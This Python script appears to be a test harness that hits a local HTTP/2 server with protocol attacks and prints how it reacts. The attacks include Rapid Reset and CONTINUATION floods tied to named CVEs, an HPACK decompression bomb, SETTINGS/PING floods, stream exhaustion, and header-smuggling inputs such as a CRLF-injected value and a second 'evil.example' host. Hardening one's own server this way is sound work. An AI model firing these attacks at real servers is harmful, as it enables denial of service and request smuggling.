"""Attacks a server over HTTP/2 as no regular client would, and prints its reactions, one word per line.

Arguments: the port on 127.0.0.1, a file with the authority to trust, and the names of attacks, which are the keys
of ATTACKS.
"""

import socket
import ssl
import struct
import sys

import hpack

PATIENCE = 600
HEAD = [(":method", "GET"), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", "/v1/scales")]


class Client:
    """A connection on which the caller writes frames freely, whatever the standard says."""

    def __init__(self, port, authority):
        context = ssl.create_default_context(cafile=authority)
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
        self.socket = context.wrap_socket(raw, server_hostname="127.0.0.1")
        assert self.socket.selected_alpn_protocol() == "h2"
        self.encoder = hpack.Encoder()
        self.buffer = b""
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + self.frame(4, 0, 0, b""))

    @staticmethod
    def frame(kind, flags, stream, payload):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def send(self, *frames):
        """Sends frames, and returns whether the server still accepts them."""
        try:
            self.socket.sendall(b"".join(frames))
            return True
        except OSError:
            return False

    def head(self, stream, extra=(), flags=5):
        return self.frame(1, flags, stream, self.encoder.encode(HEAD + list(extra)))

    def frames(self):
        """The incoming frames, until the server closes the connection."""
        while True:
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload = self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                yield kind, flags, stream, payload
            try:
                chunk = self.socket.recv(65536)
            except OSError:
                return
            if not chunk:
                return
            self.buffer += chunk


def verdict(client):
    """How the server ends the connection: by the code of its GOAWAY, or by closing it."""
    for kind, _, _, payload in client.frames():
        if kind == 7:
            return f"goaway {int.from_bytes(payload[4:8], 'big')}"
    return "closed"


def reset(client):
    """Rapid reset (CVE-2023-44487): requests that are cancelled as soon as they are sent."""
    for number in range(1000):
        stream = 2 * number + 1
        if not client.send(client.head(stream), client.frame(3, 0, stream, struct.pack(">I", 8))):
            break
    return verdict(client)


def continuation(client):
    """A head that never ends (CVE-2024-27316 and its kin)."""
    client.send(client.frame(1, 1, 1, client.encoder.encode(HEAD)))
    for number in range(1000):
        block = client.encoder.encode([(f"x-{number}", "a" * 1000)])
        if not client.send(client.frame(9, 0, 1, block)):
            break
    return verdict(client)


def flood(kind, payload):
    """Frames that each require an answer."""
    def attack(client):
        for _ in range(2000):
            if not client.send(client.frame(kind, 0, 0, payload)):
                break
        return verdict(client)
    return attack


def streams(client):
    """Bodies that never come, on more streams than allowed."""
    for number in range(101):
        client.send(client.frame(1, 4, 2 * number + 1, client.encoder.encode(
            [(":method", "POST"), *HEAD[1:3], (":path", "/v1/scales")])))
    for kind, _, stream, payload in client.frames():
        if kind in (3, 7):
            return f"refused on {stream or 'the connection'}"
    return "closed"


def header_list(client):
    """A head of more than 16 KB."""
    client.send(client.head(1, [(f"x-{number}", "a" * 400) for number in range(60)]))
    for kind, _, _, payload in client.frames():
        if kind in (3, 7):
            return "refused"
        if kind == 1:
            return dict(hpack.Decoder().decode(payload))[":status"]
    return "closed"


def connection_field(client):
    """An HTTP/1.1 field that could smuggle a request past a proxy (RFC 9113, 8.2.2)."""
    client.send(client.head(1, [("transfer-encoding", "chunked"), ("connection", "keep-alive")]))
    for kind, _, _, payload in client.frames():
        if kind in (3, 7):
            return "refused"
        if kind == 1:
            return dict(hpack.Decoder().decode(payload))[":status"]
    return "closed"


def reaction(client):
    """What the server says to one bad thing: the end of its stream or connection, or the status of an answer."""
    for kind, _, stream, payload in client.frames():
        if kind == 7:
            return f"goaway {int.from_bytes(payload[4:8], 'big')}"
        if kind == 3:
            return f"reset {int.from_bytes(payload, 'big')}"
        if kind == 1:
            return dict(hpack.Decoder().decode(payload))[":status"]
    return "closed"


def header_bomb(client):
    """A head of a few kilobytes that is inflated to 40 MB: one long field, and then thousands of references to it."""
    long_field = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
    block = hpack.Encoder().encode(HEAD) + long_field + b"\xbe" * 10_000
    client.send(client.frame(1, 5, 1, block))
    return reaction(client)


def one(*frames):
    """Frames that the standard forbids."""
    def attack(client):
        client.send(*frames)
        return reaction(client)
    return attack


def fields(pairs):
    """A head that the standard forbids."""
    def attack(client):
        client.send(client.frame(1, 5, 1, client.encoder.encode(pairs)))
        return reaction(client)
    return attack


def zero_window(client):
    """A hundred answers that their reader never lets come, until it does: none is lost, and the server is not stuck."""
    client.send(client.frame(4, 0, 0, struct.pack(">HI", 4, 0)))
    for number in range(100):
        client.send(client.head(2 * number + 1))
    heads, ended = set(), set()
    for kind, flags, stream, _ in client.frames():
        if kind in (3, 7):
            return f"refused on {stream or 'the connection'}"
        if kind == 0:
            ended.add(stream) if flags & 1 else None
        if kind == 1:
            heads.add(stream)
        if kind == 1 and len(heads) == 100:
            if ended:
                return "sent more than the window"
            client.send(client.frame(4, 0, 0, struct.pack(">HI", 4, 1 << 20)),
                        client.frame(8, 0, 0, struct.pack(">I", 1 << 24)))
        if len(ended) == 100:
            return "100 answers"
    return f"closed after {len(ended)}"


def unread_body(client):
    """A body that is refused and never comes, and then another request on the same connection."""
    decoder = hpack.Decoder()
    client.send(client.frame(1, 4, 1, client.encoder.encode(
        [(":method", "POST"), *HEAD[1:3], (":path", "/v1/alerts"), ("content-type", "application/json")])))
    seen = []
    for kind, _, stream, payload in client.frames():
        if kind == 1:
            seen.append(dict(decoder.decode(payload))[":status"])
            if stream == 3:
                return " ".join(seen)
        elif kind == 3:
            seen.append("reset")
            client.send(client.head(3))
        elif kind == 7:
            break
    return " ".join([*seen, "closed"])


ATTACKS = {
    "reset": reset, "continuation": continuation, "streams": streams, "header-list": header_list,
    "connection-field": connection_field,
    "unread-body": unread_body, "settings": flood(4, b""), "ping": flood(6, b"12345678"),
    "header-bomb": header_bomb, "zero-window": zero_window,
    "window-overflow": one(*2 * [Client.frame(8, 0, 0, struct.pack(">I", (1 << 31) - 1))]),
    "zero-increment": one(Client.frame(8, 0, 0, bytes(4))),
    "long-frame": one(Client.frame(6, 0, 0, b"a" * 20_000)),
    "data-without-a-head": one(Client.frame(0, 1, 1, b"a")),
    "even-stream": one(Client.frame(1, 5, 2, hpack.Encoder().encode(HEAD))),
    "broken-table": one(Client.frame(1, 5, 1, b"\xff" * 9)),
    "no-path": fields(HEAD[:3]), "two-paths": fields([*HEAD, HEAD[3]]),
    "late-path": fields([*HEAD[:3], ("a", "b"), HEAD[3]]), "upper-case": fields([*HEAD, ("X-A", "b")]),
    "line-end": fields([*HEAD, ("x-a", "b\r\nx-c: d")]), "second-host": fields([*HEAD, ("host", "evil.example")]),
}


def main(port, authority, *attacks):
    for attack in attacks:
        print(attack, ATTACKS[attack](Client(int(port), authority)), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
